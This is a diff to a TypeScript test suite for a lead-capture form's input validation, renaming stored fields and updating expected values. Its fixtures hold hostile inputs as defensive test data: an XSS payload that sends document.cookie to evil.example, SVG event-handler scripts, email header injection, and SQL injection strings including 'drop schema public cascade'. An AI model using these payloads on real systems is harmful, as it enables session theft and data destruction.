@@ -36,8 +36,8 @@ export interface StoredLead {
   phone: string
   business_name: string
   website_url: string | null
-  main_challenges: string[] | null
-  goals: string[] | null
+  current_marketing: string | null
+  goals: string | null
   monthly_budget: string
   questionnaire_score: number
   answers: Record<string, unknown>
@@ -167,8 +167,8 @@ const textLimits: { field: string; limit: number; atLimit: string; stored: (v: s
   { field: 'last_name', limit: 50, atLimit: repeat('b', 50), stored: (v) => ({ last_name: v }) },
   { field: 'business_name', limit: 100, atLimit: repeat('B', 100), stored: (v) => ({ business_name: v }) },
   { field: 'website', limit: 1000, atLimit: `https://glow.example/${repeat('p', 979)}`, stored: (v) => ({ website_url: v }) },
-  { field: 'current_marketing', limit: 1000, atLimit: repeat('c', 1000), stored: (v) => ({ main_challenges: [v] }) },
-  { field: 'goals', limit: 1000, atLimit: repeat('g', 1000), stored: (v) => ({ goals: [v] }) },
+  { field: 'current_marketing', limit: 1000, atLimit: repeat('c', 1000), stored: (v) => ({ current_marketing: v }) },
+  { field: 'goals', limit: 1000, atLimit: repeat('g', 1000), stored: (v) => ({ goals: v }) },
   { field: 'email', limit: 254, atLimit: `${repeat('a', 64)}@${repeat('b', 185)}.com`, stored: (v) => ({ email: v }) },
   { field: 'phone', limit: 20, atLimit: '(512) 555-0142 x 123', stored: (v) => ({ phone: v }) },
 ]
@@ -233,7 +233,7 @@ for (const field of requiredFields) {
 }
 const optionalFields: [string, keyof StoredLead][] = [
   ['website', 'website_url'],
-  ['current_marketing', 'main_challenges'],
+  ['current_marketing', 'current_marketing'],
   ['goals', 'goals'],
 ]
 for (const [field, column] of optionalFields) {
@@ -316,7 +316,7 @@ rpc('zero-width-space-inside-name', 'unicode', { first_name: 'An\u200bn' }, stor
 rpc('bom-prefix', 'unicode', { first_name: '\ufeffAnn' }, stored({ first_name: 'Ann' }))
 rpc('mongolian-vowel-separator', 'unicode', { last_name: '\u180eLee\u180e' }, stored({ last_name: 'Lee' }))
 rpc('line-separator-in-name', 'unicode', { first_name: 'Ann\u2028Lee' }, stored({ first_name: 'AnnLee' }))
-rpc('paragraph-separator-in-goals', 'unicode', { goals: 'First\u2029Second' }, stored({ goals: ['First\nSecond'] }))
+rpc('paragraph-separator-in-goals', 'unicode', { goals: 'First\u2029Second' }, stored({ goals: 'First\nSecond' }))
 rpc('no-break-space-inside-kept', 'unicode', { first_name: 'Mary\u00a0Ann' }, stored({ first_name: 'Mary\u00a0Ann' }))
 rpc('em-spaces-trimmed', 'unicode', { first_name: '\u2003Ann\u2003' }, stored({ first_name: 'Ann' }))
 rpc('noncharacter-kept', 'unicode', { first_name: 'Ann\uffff' }, stored({ first_name: 'Ann\uffff' }))
@@ -353,8 +353,8 @@ rpc('terminal-title-escape-removed', 'control-chars', { business_name: '\u001b]0
 rpc('email-header-injection', 'control-chars', { email: 'ann@glow.example\r\nBcc: victim@glow.example' }, invalid('email'))
 rpc('email-control-char-removed', 'control-chars', { email: 'ann\u0001@glow.example' }, stored({ email: 'ann@glow.example' }))
 rpc('phone-bell-removed', 'control-chars', { phone: '(512)\u0007 555-0142' }, stored({ phone: '(512) 555-0142' }))
-rpc('goals-line-breaks-normalised', 'control-chars', { goals: 'Line 1\r\nLine 2\rLine 3\n\tIndented\u0001\u001b[2J' }, stored({ goals: ['Line 1\nLine 2\nLine 3\n\tIndented[2J'] }))
-rpc('current-marketing-c1-removed', 'control-chars', { current_marketing: 'Ads\u0085\u009f only' }, stored({ main_challenges: ['Ads only'] }))
+rpc('goals-line-breaks-normalised', 'control-chars', { goals: 'Line 1\r\nLine 2\rLine 3\n\tIndented\u0001\u001b[2J' }, stored({ goals: 'Line 1\nLine 2\nLine 3\n\tIndented[2J' }))
+rpc('current-marketing-c1-removed', 'control-chars', { current_marketing: 'Ads\u0085\u009f only' }, stored({ current_marketing: 'Ads only' }))
 rpc('website-control-removed', 'control-chars', { website: 'https://glow.example/\u0001path' }, stored({ website_url: 'https://glow.example/path' }))
 rpc('website-tab-inside-javascript-scheme', 'control-chars', { website: 'java\tscript:alert(1)' }, invalid('website'))
 rpc('budget-controls-removed', 'control-chars', { monthly_budget: '\u00015k-10k\u0002' }, stored({ monthly_budget: '5k-10k' }))
@@ -394,8 +394,8 @@ const businessPayloads = [
 ]
 businessPayloads.forEach((payload, i) => rpc(`html-business-${i + 1}`, 'html-script', { business_name: payload }, stored({ business_name: payload })))
 rpc('html-last-name-table-breakout', 'html-script', { last_name: '</td><script>alert(1)</script>' }, stored({ last_name: '</td><script>alert(1)</script>' }))
-rpc('html-goals-cookie-theft', 'html-script', { goals: '<script>fetch("https://evil.example/?c="+document.cookie)</script>' }, stored({ goals: ['<script>fetch("https://evil.example/?c="+document.cookie)</script>'] }))
-rpc('html-current-svg-animate', 'html-script', { current_marketing: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' }, stored({ main_challenges: ['<svg><animate onbegin=alert(1) attributeName=x dur=1s>'] }))
+rpc('html-goals-cookie-theft', 'html-script', { goals: '<script>fetch("https://evil.example/?c="+document.cookie)</script>' }, stored({ goals: '<script>fetch("https://evil.example/?c="+document.cookie)</script>' }))
+rpc('html-current-svg-animate', 'html-script', { current_marketing: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' }, stored({ current_marketing: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' }))
 rpc('html-email-local-part', 'html-script', { email: '<script>alert(1)</script>@glow.example' }, stored({ email: '<script>alert(1)</script>@glow.example' }))
 rpc('html-email-quoted-svg', 'html-script', { email: '"<svg/onload=alert(1)>"@glow.example' }, stored({ email: '"<svg/onload=alert(1)>"@glow.example' }))
 for (const [label, url] of [
@@ -496,7 +496,7 @@ for (const [label, value] of sqlNames) rpc(`sql-first-name-${label}`, 'sql-metac
 rpc('sql-business-union', 'sql-metachar', { business_name: "' UNION SELECT email FROM contacts --" }, stored({ business_name: "' UNION SELECT email FROM contacts --" }))
 rpc('sql-email-apostrophe', 'sql-metachar', { email: "o'brien@glow.example" }, stored({ email: "o'brien@glow.example" }))
 rpc('sql-email-comment', 'sql-metachar', { email: "x'--@glow.example" }, stored({ email: "x'--@glow.example" }))
-rpc('sql-goals-dollar-quote', 'sql-metachar', { goals: '$$; drop schema public cascade; $$' }, stored({ goals: ['$$; drop schema public cascade; $$'] }))
+rpc('sql-goals-dollar-quote', 'sql-metachar', { goals: '$$; drop schema public cascade; $$' }, stored({ goals: '$$; drop schema public cascade; $$' }))
 rpc('sql-budget-or', 'sql-metachar', { monthly_budget: "5k-10k' OR '1'='1" }, invalid('monthly_budget'))
 rpc('sql-score-drop', 'sql-metachar', { questionnaire_score: '67; drop table contacts' }, invalid('questionnaire_score'))
 rpc('sql-score-or', 'sql-metachar', { questionnaire_score: '1 OR 1=1' }, invalid('questionnaire_score'))
@@ -613,7 +613,7 @@ rawEvent('rows-nested-arrays', 'wrong-types', `[[${JSON.stringify(baseEvent)}]]`
 
 for (const field of requiredFields) rpc(`missing-${field}`, 'missing-extra', {}, invalid(field), [field])
 rpc('missing-answers-defaults-to-empty', 'missing-extra', {}, stored({ answers: {} }), ['answers'])
-rpc('missing-all-optional', 'missing-extra', {}, stored({ website_url: null, main_challenges: null, goals: null }), ['website', 'current_marketing', 'goals'])
+rpc('missing-all-optional', 'missing-extra', {}, stored({ website_url: null, current_marketing: null, goals: null }), ['website', 'current_marketing', 'goals'])
 add('no-arguments-at-all', 'missing-extra', 'rpc', { kind: 'rpc-exact', args: {} }, invalid('first_name', 'last_name', 'email', 'phone', 'business_name', 'monthly_budget', 'questionnaire_score'))
 for (const [label, extra] of [
   ['client-ip', { client_ip: '1.2.3.4' }],
